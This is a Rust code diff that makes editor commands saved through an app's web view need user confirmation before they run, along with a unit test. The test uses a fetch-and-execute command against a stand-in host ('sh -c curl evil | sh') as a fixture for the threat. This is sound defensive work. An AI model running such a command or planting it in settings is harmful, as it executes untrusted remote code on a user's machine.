@@ -22,6 +22,11 @@ use crate::{Clock, Store};
 /// The settings key of the editor command.
 pub const EDITOR_SETTING: &str = "editor";
 
+/// The settings key of the editor command the user confirmed from a trusted place (the CLI,
+/// or the app's native dialog): a command saved by the app's web view runs only once it is
+/// confirmed, so a compromised view cannot turn "Open in editor" into "run this".
+pub const EDITOR_CONFIRMED_SETTING: &str = "editor-confirmed";
+
 /// The editor used when neither the setting nor `$VISUAL` names one.
 pub const DEFAULT_EDITOR: &str = "code";
 
@@ -43,13 +48,46 @@ pub fn editor_command(store: &Store, visual: Option<&str>) -> Result<String, Tas
 }
 
 /// Saves the editor command (`None` or blank: back to `$VISUAL`/`code`). A command that
-/// cannot be split (an unclosed quote) is refused and the old one kept.
-pub fn set_editor_command(store: &Store, command: Option<&str>) -> Result<(), TaskError> {
+/// cannot be split (an unclosed quote) is refused and the old one kept. `confirmed`: the
+/// user gave it from a trusted place (the CLI); from the app's web view it is not, and
+/// [`editor_needing_confirmation`] then names it until [`confirm_editor_command`].
+pub fn set_editor_command(
+    store: &Store,
+    command: Option<&str>,
+    confirmed: bool,
+) -> Result<(), TaskError> {
     let command = command.map(str::trim).filter(|c| !c.is_empty());
     if let Some(c) = command {
         split(c)?;
     }
-    Ok(store.db()?.set_setting(EDITOR_SETTING, command)?)
+    let mut db = store.db()?;
+    db.set_setting(EDITOR_SETTING, command)?;
+    if confirmed && let Some(c) = command {
+        db.set_setting(EDITOR_CONFIRMED_SETTING, Some(c))?;
+    }
+    Ok(())
+}
+
+/// The saved editor command if it was never confirmed (`None`: nothing to ask; `$VISUAL`
+/// and the default come from the user's own environment).
+pub fn editor_needing_confirmation(store: &Store) -> Result<Option<String>, TaskError> {
+    let db = store.db()?;
+    let Some(set) = db.setting(EDITOR_SETTING)? else {
+        return Ok(None);
+    };
+    let confirmed = db.setting(EDITOR_CONFIRMED_SETTING)?;
+    Ok((confirmed.as_deref() != Some(set.as_str())).then_some(set))
+}
+
+/// Records that the user confirmed `command` (it must still be the saved one).
+pub fn confirm_editor_command(store: &Store, command: &str) -> Result<(), TaskError> {
+    let mut db = store.db()?;
+    if db.setting(EDITOR_SETTING)?.as_deref() != Some(command) {
+        return Err(TaskError::Refused(
+            "the editor command changed while it was being confirmed; try again".into(),
+        ));
+    }
+    Ok(db.set_setting(EDITOR_CONFIRMED_SETTING, Some(command))?)
 }
 
 fn split(command: &str) -> Result<Vec<String>, TaskError> {
@@ -101,6 +139,12 @@ pub fn open_in_editor(
     limits: &Limits,
     clock: Clock,
 ) -> Result<Opened, TaskError> {
+    if let Some(cmd) = editor_needing_confirmation(store)? {
+        return Err(TaskError::Refused(format!(
+            "the editor command `{cmd}` was saved in the app and is not confirmed yet; confirm \
+             it in the app, or set it with `berth config editor`"
+        )));
+    }
     let mut argv = split(&editor_command(store, visual)?)?;
     argv[0] = resolve_program(&argv[0], search_path)?
         .to_string_lossy()
@@ -177,6 +221,26 @@ mod tests {
         std::fs::write(&p, "#!/bin/sh\n").unwrap();
         std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
         p
+    }
+
+    #[test]
+    fn an_editor_saved_by_the_web_view_needs_the_users_confirmation() {
+        let dir = tempfile::tempdir().unwrap();
+        let store = Store::new(crate::DataDir::new(dir.path()));
+        // A compromised web view saves a command of its choosing.
+        set_editor_command(&store, Some("sh -c 'curl evil | sh'"), false).unwrap();
+        assert_eq!(
+            editor_needing_confirmation(&store).unwrap().as_deref(),
+            Some("sh -c 'curl evil | sh'")
+        );
+        assert!(confirm_editor_command(&store, "something else").is_err());
+        confirm_editor_command(&store, "sh -c 'curl evil | sh'").unwrap();
+        assert_eq!(editor_needing_confirmation(&store).unwrap(), None);
+        // The CLI is the user's own hand: confirmed as it is set.
+        set_editor_command(&store, Some("vim"), true).unwrap();
+        assert_eq!(editor_needing_confirmation(&store).unwrap(), None);
+        set_editor_command(&store, Some("emacs"), false).unwrap();
+        assert!(editor_needing_confirmation(&store).unwrap().is_some());
     }
 
     #[test]
